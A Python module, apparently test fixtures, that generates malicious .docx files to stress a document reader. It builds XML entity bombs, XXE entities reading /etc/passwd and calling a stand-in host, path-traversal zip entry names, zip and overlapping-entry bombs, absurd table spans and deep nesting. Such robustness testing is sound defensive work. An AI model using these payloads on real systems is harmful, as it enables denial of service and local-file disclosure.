# ruff: noqa: E501  (files are written out as they are)
"""Word documents made to break readers: bombs, loops, absurd spans, links out of the file."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Mapping

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/></Relationships>'
)
TITLE = "<w:p><w:r><w:t>Cuenta P\u00fablica 2022: 1.234 personas.</w:t></w:r></w:p>"


def body(content: str, doctype: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{content}</w:body></w:document>'


def package(document: str | bytes, more: Mapping[str, str | bytes] | None = None, level: int = 9) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in {
            "[Content_Types].xml": TYPES,
            "_rels/.rels": RELATIONS,
            "word/document.xml": document,
            **(more or {}),
        }.items():
            archive.writestr(name, content)
    return out.getvalue()


def cell(text: str, properties: str = "") -> str:
    return f"<w:tc><w:tcPr>{properties}</w:tcPr><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc>"


def row(*cells: str) -> str:
    return f"<w:tr>{''.join(cells)}</w:tr>"


def table(*rows: str) -> str:
    return f"<w:tbl>{''.join(rows)}</w:tbl>"


def billion_laughs() -> bytes:
    entities = '<!ENTITY a0 "ja">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12))
    return package(body("<w:p><w:r><w:t>&a11;</w:t></w:r></w:p>", f"<!DOCTYPE x [{entities}]>"))


def quadratic_blowup() -> bytes:
    entity = f'<!DOCTYPE x [<!ENTITY a "{"A" * 100_000}">]>'
    return package(body(f"<w:p><w:r><w:t>{'&a;' * 20_000}</w:t></w:r></w:p>", entity))


def external_entity() -> bytes:
    doctype = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://192.0.2.1/b">]>'
    return package(body(f"{TITLE}<w:p><w:r><w:t>&a;&b;</w:t></w:r></w:p>", doctype))


def external_dtd() -> bytes:
    return package(body(TITLE, '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">'))


def links_out() -> bytes:
    """Relations to other machines and files: pictures, a template, a part in another format."""
    relations = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{R}/image" Target="http://192.0.2.1/x.png" TargetMode="External"/>'
        f'<Relationship Id="rId2" Type="{R}/attachedTemplate" Target="\\\\192.0.2.1\\x.dotm" TargetMode="External"/>'
        f'<Relationship Id="rId3" Type="{R}/aFChunk" Target="file:///etc/passwd" TargetMode="External"/>'
        f'<Relationship Id="rId4" Type="{R}/oleObject" Target="../../../../etc/passwd" TargetMode="External"/>'
        f'<Relationship Id="rId5" Type="{R}/styles" Target="../../../../../etc/passwd"/>'
        "</Relationships>"
    )
    content = f'{TITLE}<w:altChunk r:id="rId3"/><w:p><w:r><w:pict r:id="rId1"/></w:r></w:p>'
    return package(body(content), {"word/_rels/document.xml.rels": relations})


def climbing_names() -> bytes:
    return package(
        body(TITLE), {"../../../../tmp/cuenta-climbed": "x", "/etc/cuenta-climbed": "x", "word/\\..\\..\\x": "x"}
    )


def part_bomb(mebibytes: int = 1500) -> bytes:
    """The document itself unpacks to gigabytes."""
    filler = b" " * (1 << 20)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("_rels/.rels", RELATIONS)
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            head, tail = body(TITLE + "@").split("@")
            part.write(head.encode())
            for _ in range(mebibytes):
                part.write(filler)
            part.write(tail.encode())
    return out.getvalue()


def other_part_bomb() -> bytes:
    """A part nobody needs unpacks to gigabytes."""
    out = io.BytesIO(package(body(TITLE)))
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("word/media/image1.xml", "w", force_zip64=True) as part,
    ):
        for _ in range(3000):
            part.write(bytes(1 << 20))
    relations = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{R}/image" Target="media/image1.xml"/></Relationships>'
    )
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/_rels/document.xml.rels", relations)
    return out.getvalue()


def many_parts(count: int = 60_000) -> bytes:
    return package(body(TITLE), {f"word/x{i}.xml": "<x/>" for i in range(count)}, level=1)


def overlapping_parts(count: int = 3000) -> bytes:
    """Directory entries that all point at one large part (the non-recursive bomb)."""
    whole = package(body(TITLE), {"word/big.xml": b"<x>" + b" " * 20_000_000 + b"</x>"})
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        entry = archive.getinfo("word/big.xml")
        directory = archive.start_dir
    head, tail = whole[:directory], whole[directory:]
    records, end = tail[: tail.rindex(b"PK\x05\x06")], tail[tail.rindex(b"PK\x05\x06") :]
    made = []
    for i in range(count):
        name = f"word/o{i}.xml".encode()
        made.append(
            struct.pack(
                "<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0, 8, 0, 33, entry.CRC, entry.compress_size,
                entry.file_size, len(name), 0, 0, 0, 0, 0, entry.header_offset,
            ) + name
        )  # fmt: skip
    records += b"".join(made)
    fields = list(struct.unpack("<4s4H2LH", end[:22]))
    fields[3] = fields[4] = fields[3] + count
    fields[5] = len(records)
    return head + records + struct.pack("<4s4H2LH", *fields)


def wide_span() -> bytes:
    return package(
        body(
            TITLE
            + table(
                row(cell("A", '<w:gridSpan w:val="1000000000"/>'), cell("B")),
                row(cell("1", '<w:gridSpan w:val="-7"/>'), cell("2", '<w:gridSpan w:val="99999999999999999999"/>')),
                row(cell("3", '<w:gridSpan w:val="dos"/>'), cell("4")),
            )
        )
    )


def far_start() -> bytes:
    rows = f'<w:tr><w:trPr><w:gridBefore w:val="1000000000"/></w:trPr>{cell("A")}{cell("1")}</w:tr>'
    return package(body(TITLE + table(rows, row(cell("B"), cell("2")))))


def wide_and_tall() -> bytes:
    """Spans that make a grid of ten thousand million positions of a few cells."""
    rows = [row(cell(str(i), '<w:gridSpan w:val="100000"/>')) for i in range(3000)]
    return package(body(TITLE + table(*rows)))


def deep_tables(depth: int = 80) -> bytes:
    inner = "<w:p><w:r><w:t>7</w:t></w:r></w:p>"
    for level in range(depth):
        inner = f"<w:tbl><w:tr><w:tc><w:p><w:r><w:t>{level}</w:t></w:r></w:p>{inner}</w:tc></w:tr></w:tbl>"
    return package(body(TITLE + inner))


def deep_elements(depth: int = 100_000) -> bytes:
    return package(body(TITLE + "<w:sdt>" * depth + "</w:sdt>" * depth))


def deep_runs(depth: int = 250) -> bytes:
    """As deep as the XML parser lets it be."""
    return package(
        body("<w:p>" + "<w:hyperlink>" * depth + "<w:r><w:t>7</w:t></w:r>" + "</w:hyperlink>" * depth + "</w:p>")
    )


def text_box_bomb(depth: int = 60) -> bytes:
    """Text boxes within text boxes, of which every one is found from every level above it."""
    inner = "<w:p><w:r><w:t>7 personas</w:t></w:r></w:p>"
    for level in range(depth):
        inner = f"<w:p><w:r><w:t>{level}</w:t><w:txbxContent>{inner}</w:txbxContent></w:r></w:p>"
    return package(body(TITLE + inner))


def many_rows(count: int = 100_000) -> bytes:
    rows = "".join(row(cell(f"Comuna {i}"), cell(f"{i}"), cell(f"{2 * i}")) for i in range(count))
    return package(body(TITLE + table(rows)))


def many_columns(count: int = 5000) -> bytes:
    return package(body(TITLE + table(*(row(*(cell(str(i * j)) for i in range(count))) for j in range(20)))))


def many_tables(count: int = 3000) -> bytes:
    one = table(row(cell("Programa"), cell("Total")), row(cell("Uno"), cell("10")), row(cell("Total"), cell("11")))
    return package(body(TITLE + (one + "<w:p/>") * count))


def long_cell(count: int = 2_000_000) -> bytes:
    return package(
        body(TITLE + table(row(cell("Programa"), cell("Total")), row(cell("9" * count), cell("1.234 " * (count // 6)))))
    )


def endless_merge(count: int = 30_000) -> bytes:
    start = row(cell("A", '<w:vMerge w:val="restart"/>'), cell("1"))
    return package(body(TITLE + table(start, *(row(cell("", "<w:vMerge/>"), cell("1")) for _ in range(count)))))


def no_document() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/x.xml", "<x/>")
    return out.getvalue()


def broken_xml() -> bytes:
    return package("<w:document><w:body><w:p>")


def wrong_encoding() -> bytes:
    return package(body(TITLE).encode("utf-16"))


def control_codes() -> bytes:
    return package(body("<w:p><w:r><w:t>Uno&#x0;dos&#x1F;</w:t></w:r></w:p>"))


def style_loop() -> bytes:
    styles = (
        f'<w:styles xmlns:w="{W}"><w:style w:styleId="A" w:type="paragraph"><w:basedOn w:val="A"/>'
        '<w:name w:val="heading 99999999999"/></w:style></w:styles>'
    )
    relations = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{R}/styles" Target="styles.xml"/></Relationships>'
    )
    types = TYPES.replace(
        "</Types>",
        '<Override PartName="/word/styles.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/></Types>',
    )
    content = '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>T\u00edtulo</w:t></w:r></w:p>' + TITLE
    more = {"word/styles.xml": styles, "word/_rels/document.xml.rels": relations, "[Content_Types].xml": types}
    return package(body(content), more)


def relation_loop() -> bytes:
    relations = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{R}/x" Target="document.xml"/></Relationships>'
    )
    return package(body(TITLE), {"word/_rels/document.xml.rels": relations})


def protected() -> bytes:
    """What Office writes for a document with a password: an OLE file with an encrypted package."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000) + "EncryptedPackage".encode("utf-16-le") + bytes(1000)


SMALL: dict[str, Callable[[], bytes]] = {
    f.__name__: f
    for f in (
        billion_laughs, quadratic_blowup, external_entity, external_dtd, links_out, climbing_names, many_parts,
        overlapping_parts, wide_span, far_start, wide_and_tall, deep_tables, deep_elements, deep_runs, text_box_bomb,
        no_document, broken_xml, wrong_encoding, control_codes, style_loop, relation_loop, protected,
    )
}  # fmt: skip
LARGE: dict[str, Callable[[], bytes]] = {
    f.__name__: f for f in (part_bomb, other_part_bomb, many_rows, many_columns, many_tables, long_cell, endless_merge)
}
